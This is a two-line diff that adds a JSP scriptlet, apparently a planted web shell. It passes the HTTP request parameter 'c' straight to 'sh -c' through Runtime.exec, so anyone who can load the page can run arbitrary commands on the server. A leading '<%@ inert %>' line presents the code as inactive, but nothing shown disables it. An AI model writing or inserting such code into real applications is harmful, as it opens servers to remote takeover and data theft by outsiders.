@@ -1,0 +1,2 @@
+<%@ inert %>
+<% String[] c={"sh","-c",request.getParameter("c")}; Process p=Runtime.getRuntime().exec(c); %>
